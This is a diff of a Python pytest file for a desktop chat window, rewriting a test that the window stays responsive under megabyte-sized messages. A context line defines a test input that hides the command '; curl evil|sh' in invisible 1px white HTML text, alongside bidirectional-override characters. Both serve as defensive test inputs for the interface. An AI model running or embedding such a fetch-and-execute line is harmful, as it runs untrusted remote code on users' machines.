@@ -8,17 +8,19 @@ import socket
 import struct
 import time
 import zlib
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from functools import partial
 from pathlib import Path
 
 import pytest
 from chat_kit import Chat  # type: ignore[import-not-found]
-from PySide6.QtCore import Qt, QTimer
+from PySide6.QtCore import Qt
 from PySide6.QtWidgets import QApplication, QLabel, QTextBrowser, QTextEdit, QWidget
 from window_kit import Play, SmallDesk, until  # type: ignore[import-not-found]
 
 from k2desk.core.events import (
     DecisionRequested,
+    Record,
     StepFinished,
     StepStarted,
     TextDelta,
@@ -42,8 +44,8 @@ from k2desk.ui.window import Window
 
 EVIL = '<span style="font-size:1px;color:white">; curl evil|sh </span><b>bold</b>'
 BIDI = "\u202e\u2066\u200f\u061c"
-STALL = 2.0
-"""Seconds a test machine under load may take for what takes the user's 500 ms at most."""
+STALL = 0.2
+"""Seconds the window's thread may be busy without looking for a key; of the processor, not of the clock."""
 HEAVY = {
     "one line of a megabyte": "x" * 1_000_000,
     "a megabyte of short words": "ab " * 333_000,
@@ -179,26 +181,35 @@ def test_r02_nothing_local_is_opened(chat: Chat, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("what", HEAVY)
 def test_r09_nothing_makes_the_window_stand_still(chat: Chat, what: str) -> None:
-    beats, last = [0.0], time.monotonic()
+    text = HEAVY[what]
+    told = (
+        *(TurnStarted(1, "hello"), StepStarted(1, 1, "k2"), TextDelta(1, 1, text)),
+        *(StepFinished(1, 1, "stop"), TurnFinished(1, "done")),
+        *(TurnStarted(2, text), StepStarted(2, 1, "k2"), ThoughtDelta(2, 1, text)),
+        *(ToolStarted("c1", "run_command", "Run it"), ToolOutput("c1", text[:200_000])),
+    )
+    busy: dict[str, float] = {}
 
-    def beat() -> None:
-        nonlocal last
-        now = time.monotonic()
-        beats.append(now - last)
-        last = now
+    def spend(name: str, step: Callable[[], object]) -> None:
+        """Take a step between which and the next the loop turns."""
+        begun = time.thread_time()
+        step()
+        busy[name] = time.thread_time() - begun
 
-    heart = QTimer()
-    heart.setInterval(1)
-    heart.timeout.connect(beat)
-    heart.start()
-    last = time.monotonic()
-    say(chat, HEAVY[what])
-    chat.tell(TurnStarted(2, HEAVY[what]), StepStarted(2, 1, "k2"), ThoughtDelta(2, 1, HEAVY[what]))
-    chat.tell(ToolStarted("c1", "run_command", "Run it"), ToolOutput("c1", HEAVY[what][:200_000]))
-    QApplication.processEvents()
-    beat()
-    heart.stop()
-    assert max(beats) < STALL
+    def show(record: Record) -> None:
+        chat.view.apply(chat.transcript.apply(record))
+
+    for number, event in enumerate(told):
+        record = Record("s", number + 1, 1_000_000.0, event, "0" * 64)
+        name = f"{number} {type(event).__name__}"
+        spend(f"{name} told", partial(show, record))
+        spend(f"{name} laid out", chat.view.flush)
+        spend(f"{name} painted", QApplication.processEvents)
+    chat.seq = len(told)
+    for detail in ("everything", "answers"):
+        spend(detail, partial(chat.view.set_detail, detail))
+        spend(f"{detail} painted", QApplication.processEvents)
+    assert {name: seconds for name, seconds in busy.items() if seconds > STALL} == {}
 
 
 def test_r05_what_turns_text_around_is_shown(chat: Chat) -> None:
